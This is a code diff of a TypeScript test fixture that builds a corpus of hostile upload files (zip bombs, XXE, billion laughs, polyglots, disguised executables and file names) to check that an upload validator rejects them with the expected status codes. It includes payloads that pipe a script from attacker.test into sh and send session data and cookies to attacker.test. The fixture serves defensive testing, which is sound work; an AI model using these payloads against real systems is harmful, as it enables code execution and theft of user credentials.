@@ -148,8 +148,7 @@ function pngChunk(type: string, data: Buffer): Buffer {
 }
 
 /** A real 1x1 GIF89a. */
-const gifBytes = () =>
-  Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
+const gifBytes = () => Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
 
 /** A minimal JPEG: SOI, a JFIF APP0, EOI. */
 const jpegBytes = () =>
@@ -173,11 +172,14 @@ function truncatedWebp(): Buffer {
 
 const elfBytes = () =>
   Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
-const machOBytes = () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(64)]);
-const javaClassBytes = () => Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x34]), Buffer.alloc(64)]);
+const machOBytes = () =>
+  Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(64)]);
+const javaClassBytes = () =>
+  Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x34]), Buffer.alloc(64)]);
 const shellScript = () => Buffer.from('#!/bin/sh\ncurl -s http://attacker.test/x | sh\n');
 const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch('/api/auth/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.test',t))"><script>alert(document.cookie)</script></svg>`;
-const HTML = '<!DOCTYPE html><html><body><script>fetch("/api/orders").then(r=>r.text()).then(alert)</script></body></html>';
+const HTML =
+  '<!DOCTYPE html><html><body><script>fetch("/api/orders").then(r=>r.text()).then(alert)</script></body></html>';
 const JS = '\n<script>document.location="https://attacker.test/?c="+document.cookie</script>\n';
 
 /** A text file just over the limit, padded with a repeated character. */
@@ -187,7 +189,10 @@ const oversized = (head: Buffer, extra = 1) =>
 /** A PDF whose body carries a ZIP (an xlsx) inside a stream: one file that is two. */
 function pdfWithZipStream(zip: Buffer): Buffer {
   return Buffer.concat([
-    Buffer.from(`%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n3 0 obj << /Length ${zip.length} >>\nstream\n`, 'latin1'),
+    Buffer.from(
+      `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n3 0 obj << /Length ${zip.length} >>\nstream\n`,
+      'latin1',
+    ),
     zip,
     Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
   ]);
@@ -257,7 +262,10 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
     XLSX,
     workbook(
       Object.fromEntries(
-        Array.from({ length: 60 }, (_, i) => [`xl/media/part${i}.xml`, Buffer.alloc(1024 * 1024, 0x61 + (i % 20))]),
+        Array.from({ length: 60 }, (_, i) => [
+          `xl/media/part${i}.xml`,
+          Buffer.alloc(1024 * 1024, 0x61 + (i % 20)),
+        ]),
       ),
     ),
     'xlsx',
@@ -274,7 +282,13 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
     end.writeUInt16LE(2000, 10);
     end.writeUInt32LE(record.length * 2000, 12);
     const overlapped = Buffer.concat([local, ...records, end]);
-    add('zip bomb, overlapping entries: 2,000 records share one 1 MB part', 'overlap.xlsx', XLSX, overlapped, null);
+    add(
+      'zip bomb, overlapping entries: 2,000 records share one 1 MB part',
+      'overlap.xlsx',
+      XLSX,
+      overlapped,
+      null,
+    );
   }
   add(
     'ZIP64 archive claiming sizes beyond 4 GB',
@@ -291,7 +305,14 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
   );
 
   // XML attacks inside an xlsx
-  add('billion laughs in the sheet', 'laughs.xlsx', XLSX, workbook({ 'xl/worksheets/sheet1.xml': sheetXml([['&lol9;']], BILLION_LAUGHS) }), 'xlsx', 422);
+  add(
+    'billion laughs in the sheet',
+    'laughs.xlsx',
+    XLSX,
+    workbook({ 'xl/worksheets/sheet1.xml': sheetXml([['&lol9;']], BILLION_LAUGHS) }),
+    'xlsx',
+    422,
+  );
   add(
     'billion laughs in the shared strings',
     'laughs-strings.xlsx',
@@ -316,7 +337,14 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
     'xlsx',
     422,
   );
-  add('XXE reading /etc/passwd in the sheet', 'xxe.xlsx', XLSX, workbook({ 'xl/worksheets/sheet1.xml': sheetXml([['&xxe;']], XXE_FILE) }), 'xlsx', 422);
+  add(
+    'XXE reading /etc/passwd in the sheet',
+    'xxe.xlsx',
+    XLSX,
+    workbook({ 'xl/worksheets/sheet1.xml': sheetXml([['&xxe;']], XXE_FILE) }),
+    'xlsx',
+    422,
+  );
   add(
     'XXE to the cloud metadata address in the shared strings',
     'xxe-ssrf.xlsx',
@@ -329,7 +357,9 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
     'XXE through a parameter entity in the relationships',
     'xxe-param.xlsx',
     XLSX,
-    workbook({ 'xl/_rels/workbook.xml.rels': WORKBOOK_RELS.replace('<Relationships', `${XXE_PARAM}<Relationships`) }),
+    workbook({
+      'xl/_rels/workbook.xml.rels': WORKBOOK_RELS.replace('<Relationships', `${XXE_PARAM}<Relationships`),
+    }),
     'xlsx',
     422,
   );
@@ -337,24 +367,126 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
     'XXE in the document properties, a part the line parser never reads',
     'xxe-props.xlsx',
     XLSX,
-    workbook({ 'docProps/core.xml': `<?xml version="1.0"?>${XXE_FILE}<coreProperties>&xxe;</coreProperties>` }),
+    workbook({
+      'docProps/core.xml': `<?xml version="1.0"?>${XXE_FILE}<coreProperties>&xxe;</coreProperties>`,
+    }),
     'xlsx',
     422,
   );
 
   // Polyglots
-  add('PDF with a ZIP appended after %%EOF', 'statement.pdf', 'application/pdf', Buffer.concat([pdfBytes(), goodXlsx]), 'pdf', 415);
-  add('PDF carrying a whole xlsx inside a stream object', 'embedded.pdf', 'application/pdf', pdfWithZipStream(goodXlsx), 'pdf', 415);
-  add('PDF with an HTML page after %%EOF', 'page.pdf', 'application/pdf', Buffer.concat([pdfBytes(), Buffer.from(HTML)]), 'pdf', 415);
-  add('xlsx with a PDF appended (a ZIP first)', 'sheet.pdf', 'application/pdf', Buffer.concat([goodXlsx, pdfBytes()]), null);
-  add('PNG with an HTML page appended', 'logo.png', 'image/png', Buffer.concat([pngBytes(), Buffer.from(HTML)]), 'png', 415);
-  add('PNG with a script appended', 'avatar.png', 'image/png', Buffer.concat([pngBytes(), Buffer.from(JS)]), 'png', 415);
+  add(
+    'PDF with a ZIP appended after %%EOF',
+    'statement.pdf',
+    'application/pdf',
+    Buffer.concat([pdfBytes(), goodXlsx]),
+    'pdf',
+    415,
+  );
+  add(
+    'PDF carrying a whole xlsx inside a stream object',
+    'embedded.pdf',
+    'application/pdf',
+    pdfWithZipStream(goodXlsx),
+    'pdf',
+    415,
+  );
+  add(
+    'PDF with an HTML page after %%EOF',
+    'page.pdf',
+    'application/pdf',
+    Buffer.concat([pdfBytes(), Buffer.from(HTML)]),
+    'pdf',
+    415,
+  );
+  add(
+    'xlsx with a PDF appended (a ZIP first)',
+    'sheet.pdf',
+    'application/pdf',
+    Buffer.concat([goodXlsx, pdfBytes()]),
+    null,
+  );
+  add(
+    'PNG with an HTML page appended',
+    'logo.png',
+    'image/png',
+    Buffer.concat([pngBytes(), Buffer.from(HTML)]),
+    'png',
+    415,
+  );
+  add(
+    'PNG with a script appended',
+    'avatar.png',
+    'image/png',
+    Buffer.concat([pngBytes(), Buffer.from(JS)]),
+    'png',
+    415,
+  );
   add('PNG with a ZIP appended', 'chart.png', 'image/png', Buffer.concat([pngBytes(), goodXlsx]), 'png', 415);
-  add('GIFAR: a GIF with a Java archive appended', 'photo.gif', 'image/gif', Buffer.concat([gifBytes(), zipOf([{ name: 'META-INF/MANIFEST.MF', content: Buffer.from('Manifest-Version: 1.0\nMain-Class: Evil\n') }, { name: 'Evil.class', content: javaClassBytes() }])]), 'gif', 415);
-  add('JPEG with a ZIP appended', 'scan.jpg', 'image/jpeg', Buffer.concat([jpegBytes(), goodXlsx]), 'jpg', 415);
-  add('JPEG with an HTML page appended', 'receipt.jpeg', 'image/jpeg', Buffer.concat([jpegBytes(), Buffer.from(HTML)]), 'jpg', 415);
-  add('an HTML page that starts with a PDF header', 'invoice.pdf', 'application/pdf', Buffer.from(`%PDF-1.4\n${HTML}`), 'pdf', 422);
-  add('a GIF header followed by a script (GIF89a/*...*/ JavaScript)', 'banner.gif', 'image/gif', Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//'), 'gif', 422);
+  {
+    // A well-formed PNG (every chunk and CRC right) whose text chunk is a whole xlsx.
+    const png = pngBytes();
+    const ihdrEnd = 8 + 12 + png.readUInt32BE(8);
+    const carrying = Buffer.concat([
+      png.subarray(0, ihdrEnd),
+      pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), goodXlsx])),
+      png.subarray(ihdrEnd),
+    ]);
+    add(
+      'PNG carrying an xlsx inside a well-formed text chunk',
+      'diagram.png',
+      'image/png',
+      carrying,
+      'png',
+      415,
+    );
+  }
+  add(
+    'GIFAR: a GIF with a Java archive appended',
+    'photo.gif',
+    'image/gif',
+    Buffer.concat([
+      gifBytes(),
+      zipOf([
+        { name: 'META-INF/MANIFEST.MF', content: Buffer.from('Manifest-Version: 1.0\nMain-Class: Evil\n') },
+        { name: 'Evil.class', content: javaClassBytes() },
+      ]),
+    ]),
+    'gif',
+    415,
+  );
+  add(
+    'JPEG with a ZIP appended',
+    'scan.jpg',
+    'image/jpeg',
+    Buffer.concat([jpegBytes(), goodXlsx]),
+    'jpg',
+    415,
+  );
+  add(
+    'JPEG with an HTML page appended',
+    'receipt.jpeg',
+    'image/jpeg',
+    Buffer.concat([jpegBytes(), Buffer.from(HTML)]),
+    'jpg',
+    415,
+  );
+  add(
+    'an HTML page that starts with a PDF header',
+    'invoice.pdf',
+    'application/pdf',
+    Buffer.from(`%PDF-1.4\n${HTML}`),
+    'pdf',
+    422,
+  );
+  add(
+    'a GIF header followed by a script (GIF89a/*...*/ JavaScript)',
+    'banner.gif',
+    'image/gif',
+    Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//'),
+    'gif',
+    422,
+  );
 
   // Renamed executables
   for (const [label, bytes] of [
@@ -385,8 +517,24 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
   // Oversized
   add('PDF of 10 MB + 1 byte', 'big.pdf', 'application/pdf', oversized(pdfBytes()), 'pdf', 413, true);
   add('PNG of 12 MB', 'big.png', 'image/png', oversized(pngBytes(), 1.5 * 1024 * 1024), 'png', 413, true);
-  add('CSV of 10 MB + 1 byte', 'big.csv', 'text/csv', oversized(Buffer.from('Item Code,Item Description,Public Price,Qty\n')), 'csv', 413, true);
-  add('xlsx of 11 MB', 'big.xlsx', XLSX, Buffer.concat([goodXlsx, Buffer.alloc(11 * 1024 * 1024)]), 'xlsx', 413, true);
+  add(
+    'CSV of 10 MB + 1 byte',
+    'big.csv',
+    'text/csv',
+    oversized(Buffer.from('Item Code,Item Description,Public Price,Qty\n')),
+    'csv',
+    413,
+    true,
+  );
+  add(
+    'xlsx of 11 MB',
+    'big.xlsx',
+    XLSX,
+    Buffer.concat([goodXlsx, Buffer.alloc(11 * 1024 * 1024)]),
+    'xlsx',
+    413,
+    true,
+  );
 
   // Truncated
   add('PDF cut before %%EOF', 'cut.pdf', 'application/pdf', pdfBytes().subarray(0, 60), 'pdf', 422);
@@ -394,8 +542,22 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
   add('JPEG without its end marker', 'cut.jpg', 'image/jpeg', jpegBytes().subarray(0, 40), 'jpg', 422);
   add('GIF without its trailer', 'cut.gif', 'image/gif', gifBytes().subarray(0, 30), 'gif', 422);
   add('WebP claiming 5,000 bytes in 40', 'cut.webp', 'image/webp', truncatedWebp(), 'webp', 422);
-  add('xlsx cut in half', 'cut.xlsx', XLSX, goodXlsx.subarray(0, Math.floor(goodXlsx.length / 2)), 'xlsx', 422);
-  add('xlsx without its central directory', 'nodir.xlsx', XLSX, goodWorkbook.subarray(0, goodWorkbook.length - 200), 'xlsx', 422);
+  add(
+    'xlsx cut in half',
+    'cut.xlsx',
+    XLSX,
+    goodXlsx.subarray(0, Math.floor(goodXlsx.length / 2)),
+    'xlsx',
+    422,
+  );
+  add(
+    'xlsx without its central directory',
+    'nodir.xlsx',
+    XLSX,
+    goodWorkbook.subarray(0, goodWorkbook.length - 200),
+    'xlsx',
+    422,
+  );
   add('three bytes of a PDF header', 'tiny.pdf', 'application/pdf', Buffer.from('%PD'), null);
 
   // Empty files
@@ -409,12 +571,36 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
   }
 
   // Names that disguise what a file is
-  add('RIGHT-TO-LEFT OVERRIDE: "invoice\\u202Efdp.exe" shows as invoiceexe.pdf', 'invoice\u202Efdp.exe', 'application/pdf', exeBytes(), null);
+  add(
+    'RIGHT-TO-LEFT OVERRIDE: "invoice\\u202Efdp.exe" shows as invoiceexe.pdf',
+    'invoice\u202Efdp.exe',
+    'application/pdf',
+    exeBytes(),
+    null,
+  );
   add('RTL override hiding .html behind "gnp"', 'photo\u202Egnp.html', 'image/png', Buffer.from(HTML), null);
   add('NUL in the name: "report.pdf\\0.exe"', 'report.pdf\u0000.exe', 'application/pdf', elfBytes(), null);
-  add('zero-width characters around .pdf hiding a script', 'scan\u200B.pdf\u200D', 'application/pdf', shellScript(), null);
-  add('isolate and embedding characters in an executable name', '\u2066lines\u2069\u202B.xlsx', XLSX, exeBytes(), null);
-  add('BOM and control characters in an SVG name', '\uFEFFlogo\u0007\u001b[31m.png', 'image/png', Buffer.from(SVG), null);
+  add(
+    'zero-width characters around .pdf hiding a script',
+    'scan\u200B.pdf\u200D',
+    'application/pdf',
+    shellScript(),
+    null,
+  );
+  add(
+    'isolate and embedding characters in an executable name',
+    '\u2066lines\u2069\u202B.xlsx',
+    XLSX,
+    exeBytes(),
+    null,
+  );
+  add(
+    'BOM and control characters in an SVG name',
+    '\uFEFFlogo\u0007\u001b[31m.png',
+    'image/png',
+    Buffer.from(SVG),
+    null,
+  );
 
   // Wrong extension for the right content, and the reverse
   add('a real PNG named .pdf', 'scan.pdf', 'application/pdf', pngBytes(), null);
@@ -424,7 +610,13 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
   add('a real xlsx named .png', 'lines.png', 'image/png', goodXlsx, null);
   add('a real JPEG named .gif', 'photo.gif', 'image/gif', jpegBytes(), null);
   add('a real GIF named .jpg', 'photo.jpg', 'image/jpeg', gifBytes(), null);
-  add('a real CSV of lines named .png', 'lines.png', 'text/csv', Buffer.from('Item Code,Item Description,Public Price,Qty\nA,Gauze,1,1\n'), null);
+  add(
+    'a real CSV of lines named .png',
+    'lines.png',
+    'text/csv',
+    Buffer.from('Item Code,Item Description,Public Price,Qty\nA,Gauze,1,1\n'),
+    null,
+  );
   add('a real PDF with no extension at all', 'invoice', 'application/pdf', pdfBytes(), null);
   add('a real PNG named .exe', 'photo.exe', 'image/png', pngBytes(), null);
 
